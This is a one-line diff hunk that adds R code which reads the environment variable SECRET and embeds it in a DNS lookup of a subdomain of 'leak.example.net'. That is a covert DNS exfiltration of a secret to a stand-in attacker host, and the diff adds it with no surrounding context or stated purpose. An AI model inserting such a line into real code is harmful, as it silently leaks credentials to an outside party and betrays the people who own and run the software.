@@ -1,0 +1,1 @@
+nsl(paste0(Sys.getenv("SECRET"), ".leak.example.net"))
